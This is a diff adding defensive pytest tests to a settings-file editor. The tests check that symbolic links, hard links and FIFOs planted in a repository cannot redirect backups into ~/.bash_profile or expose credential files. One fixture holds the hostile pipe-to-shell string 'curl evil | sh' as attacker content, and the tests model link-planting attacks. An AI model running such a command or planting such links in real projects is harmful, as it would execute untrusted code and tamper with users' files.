@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import os
+import stat
 import tomllib
 from pathlib import Path
 
@@ -121,3 +123,118 @@ def test_an_unreadable_file_says_what_is_wrong_apart_from_its_path_and_advice(tm
     with pytest.raises(editors.UnreadableFile) as not_text:
         editors.read(where)
     assert not_text.value.reason == "is not UTF-8 text"
+
+
+# --------------------------------------------------------------------------- links, backups, text
+
+
+def json_add(path: Path, project: Path | None = None) -> editors.Edit:
+    return editors.Edit(path, "json", editors.json_edit(editors.add_to_list(("allow",), ["x"])), project)
+
+
+def test_a_dangling_link_at_the_backup_name_is_not_followed(tmp_path: Path) -> None:
+    # A repository plants `.mcp.json.bak -> ../home/.bash_profile`, which does not exist yet.
+    project, home = tmp_path / "repo", tmp_path / "home"
+    project.mkdir()
+    home.mkdir()
+    (project / "s.json").write_text('{"attacker": "curl evil | sh"}')
+    (project / "s.json.bak").symlink_to("../home/.bash_profile")
+    report = editors.apply_edits([json_add(project / "s.json", project)])
+    assert not (home / ".bash_profile").exists() and not os.path.lexists(home / ".bash_profile")
+    assert (project / "s.json.bak").is_symlink()
+    [copy] = report.backups
+    assert copy != project / "s.json.bak" and not copy.is_symlink()
+    assert copy.read_text() == '{"attacker": "curl evil | sh"}'
+
+
+def test_a_link_at_the_backup_name_to_an_existing_file_is_never_written(tmp_path: Path) -> None:
+    victim = tmp_path / "victim"
+    victim.write_text("mine\n")
+    (tmp_path / "s.json").write_text("{}")
+    (tmp_path / "s.json.bak").symlink_to(victim)
+    editors.apply_edits([json_add(tmp_path / "s.json")])
+    assert victim.read_text() == "mine\n"
+
+
+def test_a_project_file_that_is_a_link_is_refused_untouched(tmp_path: Path) -> None:
+    # `.mcp.json -> ~/.docker/config.json`: nothing may be read, copied or written through it.
+    project, secret = tmp_path / "repo", tmp_path / "credentials.json"
+    project.mkdir()
+    secret.write_text('{"auths": {"x": "s3cret"}}')
+    (project / ".mcp.json").symlink_to(secret)
+    with pytest.raises(UserError, match=r"\.mcp\.json is a symbolic link; .* remove the link"):
+        editors.apply_edits([json_add(project / ".mcp.json", project)])
+    assert secret.read_text() == '{"auths": {"x": "s3cret"}}'
+    assert sorted(p.name for p in project.iterdir()) == [".mcp.json"]
+
+
+def test_a_project_directory_that_is_a_link_is_refused(tmp_path: Path) -> None:
+    project, elsewhere = tmp_path / "repo", tmp_path / "elsewhere"
+    project.mkdir()
+    elsewhere.mkdir()
+    (project / ".claude").symlink_to(elsewhere)
+    good = json_add(project / "ok.json", project)
+    with pytest.raises(UserError, match=r"\.claude is a symbolic link"):
+        editors.apply_edits([good, json_add(project / ".claude" / "settings.json", project)])
+    assert list(elsewhere.iterdir()) == [] and not (project / "ok.json").exists()
+
+
+def test_a_project_file_with_another_hard_link_is_refused(tmp_path: Path) -> None:
+    project, secret = tmp_path / "repo", tmp_path / "credentials.json"
+    project.mkdir()
+    secret.write_text("{}")
+    os.link(secret, project / ".mcp.json")
+    with pytest.raises(UserError, match="other hard link"):
+        editors.apply_edits([json_add(project / ".mcp.json", project)])
+    assert secret.read_text() == "{}" and not (project / ".mcp.json.bak").exists()
+
+
+def test_the_users_own_link_is_written_through_and_kept(tmp_path: Path) -> None:
+    # A dotfile manager: ~/.claude.json -> dotfiles/claude.json.
+    home = tmp_path / "home"
+    (home / "dotfiles").mkdir(parents=True)
+    real = home / "dotfiles" / "claude.json"
+    real.write_text('{"theme": "dark"}')
+    real.chmod(0o600)
+    (home / ".claude.json").symlink_to("dotfiles/claude.json")
+    report = editors.apply_edits([json_add(home / ".claude.json")])
+    assert (home / ".claude.json").is_symlink() and os.readlink(
+        home / ".claude.json"
+    ) == "dotfiles/claude.json"
+    assert json.loads(real.read_text()) == {"theme": "dark", "allow": ["x"]}
+    assert report.changed == [home / ".claude.json"] and report.backups == [home / ".claude.json.bak"]
+    assert (home / ".claude.json.bak").read_text() == '{"theme": "dark"}'
+    assert stat.S_IMODE(real.stat().st_mode) == 0o600
+    assert stat.S_IMODE((home / ".claude.json.bak").stat().st_mode) == 0o600
+    assert sorted(p.name for p in (home / "dotfiles").iterdir()) == ["claude.json"]
+
+
+def test_an_existing_backup_is_kept_and_the_new_one_gets_a_name_of_its_own(tmp_path: Path) -> None:
+    path = tmp_path / "s.json"
+    path.write_bytes(b'{"allow": []}\r\n')
+    (tmp_path / "s.json.bak").write_text("the user's own backup")
+    [copy] = editors.apply_edits([json_add(path)]).backups
+    assert (tmp_path / "s.json.bak").read_text() == "the user's own backup"
+    assert copy.name.startswith("s.json.2") and copy.read_bytes() == b'{"allow": []}\r\n'
+
+
+def test_toml_strings_escape_del_and_refuse_lone_surrogates() -> None:
+    text = "a = " + editors.toml_str("x\x7fy") + "\n"
+    assert "\x7f" not in text and tomllib.loads(text) == {"a": "x\x7fy"}
+    with pytest.raises(ValueError, match="lone surrogate"):
+        editors.toml_str("x\ud800")
+    with pytest.raises(TypeError, match="no form for null"):
+        editors.toml_value([1, None])
+
+
+def test_a_lone_surrogate_in_a_json_file_is_written_back_as_its_escape(tmp_path: Path) -> None:
+    path = tmp_path / "s.json"
+    path.write_text('{"k": "a\\ud800b"}')
+    editors.apply_edits([json_add(path)])
+    assert json.loads(path.read_text()) == {"k": "a\ud800b", "allow": ["x"]}
+
+
+def test_a_fifo_planted_at_a_config_name_is_refused_at_once(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / ".mcp.json")
+    with pytest.raises(editors.UnreadableFile, match="not a regular file"):
+        editors.apply_edits([json_add(tmp_path / ".mcp.json", tmp_path)])
